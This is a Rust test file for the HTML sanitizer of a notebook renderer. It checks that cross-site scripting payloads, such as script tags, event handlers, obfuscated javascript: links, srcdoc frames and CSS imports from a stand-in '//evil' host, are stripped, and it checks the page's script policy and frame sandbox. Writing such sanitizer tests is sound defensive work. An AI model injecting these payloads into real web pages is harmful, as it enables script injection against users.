//! What a hostile notebook must not reach, and what an honest one must show.

use serde_json::json;

use super::sanitize::sanitize;
use super::*;

fn clean(html: &str) -> String {
    sanitize(html).html
}

fn info(plotly: Option<&str>) -> PageInfo {
    PageInfo {
        file_name: "a <b>.ipynb".into(),
        cells: 1,
        done: 1,
        failed: Vec::new(),
        elapsed: Duration::from_millis(1_500),
        python: Some("CPython 3.11.7, IPython 9.18.1".into()),
        report: None,
        plotly: plotly.map(str::to_owned),
        nonce: "NONCE".into(),
    }
}

fn notebook(outputs: Value) -> Notebook {
    let cells = json!([
        {"cell_type": "markdown", "id": "m", "metadata": {}, "source": "# Title <script>alert(1)</script>"},
        {"cell_type": "code", "id": "c", "metadata": {}, "execution_count": null, "outputs": [], "source": "f('<b>')"},
    ]);
    let document = json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells});
    let mut notebook = Notebook::parse(document.to_string().as_bytes()).unwrap();
    notebook.fill(1, outputs);
    notebook
}

/// The page's markup alone: what a browser parses as tags of the page itself.
fn body(outputs: Value, plotly: Option<&str>) -> String {
    let page = page(&notebook(outputs), &info(plotly));
    let start = page.find("<main>").unwrap();
    page[start..page.find("</main>").unwrap()].to_owned()
}

fn display(mime: &str, data: Value) -> Value {
    json!([{"output_type": "display_data", "data": {mime: data, "text/plain": "plain"}, "metadata": {}}])
}

#[test]
fn scripts_and_handlers_do_not_pass_the_allow_list() {
    for (hostile, kept) in [
        ("<script>alert(1)</script>x", "x"),
        ("<SCRIPT SRC=//evil></ScRiPt >x", "x"),
        ("<scr<script>ipt>alert(1)</script>", "ipt&gt;alert(1)"),
        ("<b onclick=alert(1) ONLOAD='x'>x</b>", "<b>x</b>"),
        ("<img src=x onerror=alert(1)>", "[image: x]"),
        ("<svg><script>alert(1)</script></svg>x", "x"),
        ("<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", ""),
        ("<a href=\"javascript:alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=\" java\tscript&#58;alert(1)\">x</a>", "<a>x</a>"),
        ("<a href=&#106;avascript:alert(1)>x</a>", "<a>x</a>"),
        ("<a href='data:text/html,<script>1</script>'>x</a>", "<a>x</a>"),
        ("<iframe srcdoc='<script>1</script>'></iframe>x", "x"),
        ("<object data=x></object><embed src=x><base href=//evil>x", "x"),
        ("<form action=//evil><input name=p></form>", ""),
        ("<!--><script>alert(1)</script>-->x", "x"),
        ("<style>@import '//evil'</style>x", "x"),
        ("<p style=\"background:url(//evil);color:red\">x</p>", "<p style=\"color: red\">x</p>"),
        ("<p style=\"position:fixed;top:0;margin:-9px\">x</p>", "<p>x</p>"),
        (
            "<p title='\"><script>alert(1)</script>'>x</p>",
            "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">x</p>",
        ),
        ("<img src=\"data:image/svg+xml;base64,AAAA\">", "[image: data:image/svg+xml;base64,AAAA]"),
        ("</main></body><p>x", "<p>x</p>"),
        ("a < b <3 &lt;script&gt; & &bogus <", "a &lt; b &lt;3 &lt;script&gt; &amp; &amp;bogus &lt;"),
        ("<p class=plotly id=x name=y>x</p>", "<p>x</p>"),
        ("<b", "<b></b>"),
        ("<a href=\"http://x", "<a href=\"http://x\" rel=\"noopener noreferrer\"></a>"),
    ] {
        assert_eq!(clean(hostile), kept, "{hostile}");
    }
}

#[test]
fn a_table_of_pandas_passes_whole() {
    let table = "<div>\n<style scoped>\n  .dataframe tbody tr th { vertical-align: top; }\n</style>\n\
        <table border=\"1\" class=\"dataframe\">\n<thead><tr style=\"text-align: right;\"><th></th><th>a &amp; b</th></tr></thead>\n\
        <tbody><tr><th>0</th><td>1&nbsp;</td></tr></tbody></table>\n<p>1 rows × 1 columns</p></div>";
    let clean = sanitize(table);
    assert!(!clean.lossy);
    insta::assert_snapshot!(clean.html);
}

#[test]
fn nesting_without_end_is_cut() {
    let html = clean(&"<div>".repeat(100_000));
    assert_eq!(html.matches("<div>").count(), 100);
    assert_eq!(html.matches("</div>").count(), 100);
}

#[test]
fn outputs_with_scripts_run_in_a_frame_of_their_own_origin() {
    let html =
        body(display("text/html", json!("<script>parent.document.title = '\"pwned\"'</script>")), None);
    assert_eq!(html.matches("<script").count(), 0, "{html}");
    assert!(html.contains("<iframe class=\"output\" sandbox=\"allow-scripts\" srcdoc=\"&lt;!DOCTYPE"));
    // `allow-same-origin` beside `allow-scripts` would undo the sandbox.
    assert!(!html.contains("allow-same-origin"));
}

#[test]
fn a_page_without_frames_allows_no_script_but_ours() {
    let policy = |outputs, plotly| {
        let page = page(&notebook(outputs), &info(plotly));
        let start = page.find("script-src").unwrap();
        page[start..].split(';').next().unwrap().to_owned()
    };
    let figure = || display("application/vnd.plotly.v1+json", json!({"data": []}));
    let frame = || display("text/html", json!("<script>1</script>"));
    assert_eq!(policy(json!([]), None), "script-src 'none'");
    assert_eq!(policy(figure(), Some("lib")), "script-src 'nonce-NONCE' 'unsafe-eval'");
    assert_eq!(policy(frame(), None), "script-src 'unsafe-inline' 'unsafe-eval'");
}

#[test]
fn a_plotly_figure_brings_the_library_once() {
    let figure = json!({"data": [{"x": ["</script><script>alert(1)</script>"]}], "layout": {}});
    let output = json!({"output_type": "display_data", "metadata": {},
        "data": {"application/vnd.plotly.v1+json": figure, "text/plain": "plain"}});
    let page = page(&notebook(json!([output, output])), &info(Some("LIBRARY '</script>'")));
    assert_eq!(page.matches("LIBRARY").count(), 1);
    assert_eq!(page.matches("<div class=\"plotly\">").count(), 2);
    // Two figures' data, the library, our own.
    assert_eq!(page.matches("<script").count(), 4);
    assert_eq!(page.matches("</script>").count(), 4);
    assert!(page.contains("Plotly.newPlot"));
}

#[test]
fn without_the_library_a_figure_is_words() {
    let html = body(display("application/vnd.plotly.v1+json", json!({"data": []})), None);
    assert!(html.contains("A Plotly figure, not drawn"), "{html}");
    assert!(html.contains("<pre class=\"stdout\">plain</pre>"));
}

#[test]
fn pictures_are_data_in_img_elements() {
    let png = body(display("image/png", json!("iVBO\nRw==\n")), None);
    assert!(png.contains("<img src=\"data:image/png;base64,iVBORw==\" alt=\"plain\">"), "{png}");
    let hostile = body(display("image/png", json!("\"><script>alert(1)</script>")), None);
    assert_eq!(hostile.matches("<script").count(), 0, "{hostile}");
    let svg = body(display("image/svg+xml", json!("<svg><script>alert(1)</script></svg>")), None);
    assert!(svg.contains("<img src=\"data:image/svg+xml;base64,PHN2Zz48"), "{svg}");
}

#[test]
fn markdown_is_rendered_without_its_scripts() {
    let source = "## A *b*\n\n<img src=x onerror=alert(1)>[x](javascript:alert(1)) ![f](attachment:f.png) \
        ![g](https://example.org/g.png)\n\n$a_b + c_d$\n\n| x | y |\n|---|--:|\n| 1 | 2 |\n";
    let attachments = json!({"f.png": {"image/png": "iVBORw=="}});
    insta::assert_snapshot!(markdown::render(source, &attachments));
}

#[test]
fn a_whole_page_holds_together() {
    let outputs = json!([
        {"output_type": "stream", "name": "stdout", "text": "1 < 2\n"},
        {"output_type": "execute_result", "execution_count": 3, "data": {"text/plain": ["'a", "b'"]}, "metadata": {}},
        {"output_type": "error", "ename": "E", "evalue": "v", "traceback": ["\u{1b}[31mE\u{1b}[0m: <v>"]},
    ]);
    let mut info = info(None);
    info.failed = vec![2];
    let page = page(&notebook(outputs), &info);
    let style = (page.find("<style>").unwrap(), page.find("</style>").unwrap());
    insta::assert_snapshot!(format!("{}{}", &page[..style.0], &page[style.1..]));
}

#[test]
fn long_text_is_cut_in_the_middle_and_says_so() {
    let text = "é".repeat(400_000);
    let html = body(json!([{"output_type": "stream", "name": "stdout", "text": text}]), None);
    assert!(html.contains("left out here; the notebook file has them"));
    assert!(html.len() < 300_000);
}
